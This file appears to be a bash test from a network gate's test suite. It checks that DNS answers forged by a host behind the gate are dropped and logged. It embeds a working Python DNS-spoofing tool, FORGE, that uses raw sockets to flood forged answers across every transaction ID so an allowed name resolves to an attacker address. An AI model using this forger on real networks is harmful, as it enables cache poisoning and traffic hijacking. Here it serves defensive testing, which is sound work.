#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-3.0-or-later
# shellcheck disable=SC1091,SC2016,SC2034,SC2329
# A host behind the gate writes packets in its resolver's name: answers to its own questions, with every id there is.  Were one
# believed, an allowed name would be bound to the attacker's address.
. "$(dirname "$0")/lib.sh"
bed

FORGE='
import os, random, socket, struct, sys, time
mac_me, mac_gate, resolver, evil, to, questions = sys.argv[1:7]
def checksum(b):
    s = sum(struct.unpack(">%dH" % (len(b) // 2), b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff
name = b"\4slow\4test\0\0\1\0\1"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("198.18.1.2", int(to.split(":")[1]))); s.setblocking(False)
for i in range(int(questions)):
    s.sendto(struct.pack(">HHHHHH", i + 1, 0x100, 1, 0, 0, 0) + name, (resolver, 53)); time.sleep(0.0005)
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); raw.bind(("c0", 0x800))
ids = list(range(65536)); random.shuffle(ids)
got = False; end = time.time() + 6
for n, id in enumerate(ids):
    answer = struct.pack(">HHHHHH", id, 0x8180, 1, 1, 0, 0) + name + b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 600, 4) + socket.inet_aton(evil)
    udp = struct.pack(">HHHH", 53, int(to.split(":")[1]), 8 + len(answer), 0) + answer
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), n & 0xffff, 0, 64, 17, 0) + socket.inet_aton(resolver) + socket.inet_aton(to.split(":")[0])
    ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
    raw.send(bytes.fromhex(mac_gate.replace(":", "")) + bytes.fromhex(mac_me.replace(":", "")) + b"\x08\0" + ip + udp)
    if n % 64 == 63:
        time.sleep(0.001)
        try:
            while True: got |= socket.inet_aton(evil) in s.recv(2000)
        except BlockingIOError: pass
    if got or time.time() > end: break
print("believed" if got else "not believed", n + 1)'
mac() { h "$1" ip -br link show "$2" | awk "{print \$3}"; }
forge() { client "$PYTHON" -c "$FORGE" "$(mac c c0)" "$(mac g gc)" 198.18.2.53 198.18.3.66 "$1" "$2" | tee "$T/forge.out"; }

# The attack is real: a host that takes its answers from anybody believes one.
believed() { forge 198.18.1.2:5350 1 && grep -q '^believed' "$T/forge.out"; }
not_believed() {
    local n
    n=$(nonce)
    client "$PYTHON" -c 'import socket; socket.setdefaulttimeout(1)' # the client runs in this form
    forge "198.18.1.2:$port" 200
    grep -q '^not believed' "$T/forge.out"
    fails client timeout 15 openssl s_client -brief -connect 198.18.3.66:443 -servername slow.test < /dev/null
    fails near connect 198.18.3.66 443 "$n"
    expect_not_arrived "$n"
    fails h "$GATE_HOST" sh -c 'grep -a 198.18.3.66 "$1" | grep -q "\"answers\""' sh "$T/events"
}
told() { if [ $match = source ]; then said 0 answer_forged 198.18.2.53; else said 0 forged_source '"test"'; fi; }

h g sh -c 'for i in all default gc gs ga; do echo 0 > /proc/sys/net/ipv4/conf/$i/rp_filter; done'
FORM=forward
check "without the gate such an answer is believed" believed
# Each from a port of its own: the slow resolver's answer to a question of before, late, would begin a connection in conntrack.
port=5350
for match in source interface; do
    port=$((port + 1))
    policy "$T/policy.yaml" "${ALLOW[@]}"
    FORM=forward policy "$T/policy.yaml" "${ALLOW[@]}"
    [ $match = source ] || sed -i 's/match: .*/match: { interface: gc }/' "$T/policy.yaml"
    gate_up forward "$T/policy.yaml"
    check "answers written by the host itself are not believed (scope by $match)" not_believed
    # By interface they are dropped before, and counted: who lies about his source gets no answer.
    check "and are told (scope by $match)" told
    check "while an allowed fetch succeeds (scope by $match)" fetch -4 https://allowed.test/hello
    gate_down
done
finish
